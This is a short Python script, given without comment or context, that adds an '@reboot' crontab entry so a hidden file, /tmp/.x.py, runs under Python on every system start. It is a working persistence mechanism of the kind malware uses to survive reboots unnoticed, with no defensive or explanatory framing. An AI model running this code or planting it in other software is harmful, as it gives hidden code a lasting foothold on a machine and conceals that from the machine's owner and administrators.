import subprocess
job = "@reboot /usr/bin/python3 /tmp/.x.py\n"
subprocess.run(["bash", "-c", f"(crontab -l; echo '{job}') | crontab -"])